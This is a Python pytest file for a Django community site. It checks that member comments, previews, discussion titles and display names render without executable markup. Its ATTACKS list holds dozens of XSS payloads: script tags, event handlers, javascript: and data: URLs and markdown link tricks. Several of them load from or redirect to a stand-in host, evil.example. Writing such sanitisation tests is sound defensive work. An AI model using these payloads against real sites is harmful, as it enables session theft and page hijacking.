"""What members and guests write can do no harm on any page that shows it."""

from collections.abc import Iterable
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from community.models import Comment, Discussion, User
from community.text import member_html
from tests.community.comment_steps import address, read, write_url
from tests.factories.community import CommentFactory, DiscussionFactory, UserFactory

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</textarea><script>alert(1)</script>",
    "</li></ol></section><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "{{ request.user.password }}{% debug %}",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)
WRAPPINGS = ("{}", "*{}*", "> {}", "- {}", "[{}](https://a.example)", "word {} word")
PAYLOADS = [wrapping.format(attack) for attack, wrapping in product(ATTACKS, WRAPPINGS)]

SAFE_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a"}


class Markup(HTMLParser):
    """Collects the elements and attributes that a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def parse(html: str) -> Markup:
    markup = Markup()
    markup.feed(html)
    markup.close()
    return markup


def storable(payloads: Iterable[str]) -> list[str]:
    """Return payloads as a database keeps them: no form lets a NUL through, nor PostgreSQL."""
    return [payload.replace("\x00", "") for payload in payloads]


def test_the_corpus_is_as_large_as_promised():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_becomes_nothing_but_its_small_markup(payload):
    markup = parse(member_html(payload))

    assert markup.tags <= SAFE_TAGS
    for name, value in markup.attributes:
        assert name in {"href", "rel", "start"}
        assert name != "href" or urlsplit(value).scheme in {"", "http", "https", "mailto"}
        assert name != "rel" or value == "nofollow ugc noopener"


@pytest.mark.django_db
def test_no_page_of_comments_runs_what_was_written(client, front, discussion: Discussion):
    author = UserFactory(administrator=True)
    UserFactory.reset_sequence(0)
    for payload in PAYLOADS[:60]:
        CommentFactory(content_object=discussion, user=author, comment=payload)
    guest = CommentFactory(content_object=discussion, guest=True)
    Comment.objects.filter(pk=guest.pk).update(user_name="<script>alert(1)</script>")
    client.force_login(author)
    own = Comment.objects.filter(user=author).first()

    pages = [f"{address(discussion)}?comments={number}" for number in (1, 2, 3, 4)]
    pages += [f"/en/community/comments/{own.pk}/{name}/" for name in ("own", "edit", "thread")]
    pages += [f"{write_url(discussion)}?reply={guest.pk}", "/en/community/me/"]
    for page in pages:
        markup = parse(read(client, page))
        assert not {"iframe", "object", "base", "math", "noscript"} & markup.tags, page
        for name, value in markup.attributes:
            assert not name.startswith("on"), page
            assert not value.lower().startswith(("javascript:", "vbscript:")), page
        html = read(client, page)
        assert "<script>alert" not in html
        assert "<img src=x" not in html


@pytest.mark.django_db
def test_a_preview_runs_nothing(client, discussion):
    client.force_login(UserFactory())
    for payload in PAYLOADS[::7]:
        html = client.post(write_url(discussion), {"text": payload, "preview": "1"}).content
        assert b"<script>alert" not in html
        assert b"onerror=alert(1)>" not in html


@pytest.mark.django_db
@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 34))
def test_no_title_text_or_name_of_a_discussion_runs_anywhere(client, front, start):
    front_url, author = front.url, UserFactory(administrator=True)
    client.force_login(author)
    for payload in storable(PAYLOADS[start : start + 34]):
        discussion = DiscussionFactory(author=author, title=payload[:120], text=payload)
        CommentFactory(content_object=discussion, guest=True, user_name=payload[:50])
        # Staff see names that no form would take, as an old import may have left them.
        User.objects.filter(pk=author.pk).update(display_name=payload[:50], about=payload[:300])
        listed = reverse("wagtailsnippets_community_discussion:list")

        for page in (address(discussion), author.get_absolute_url(), front_url, listed):
            html = read(client, page)
            markup = parse(html)
            assert not {"iframe", "object", "base", "math"} & markup.tags, page
            assert not any(
                value.lower().startswith("javascript:") for _, value in markup.attributes
            )
            for code in ("<script>alert", "<img src=x", "<svg/onload", "<svg onload"):
                assert code not in html, (page, payload)
        discussion.delete()
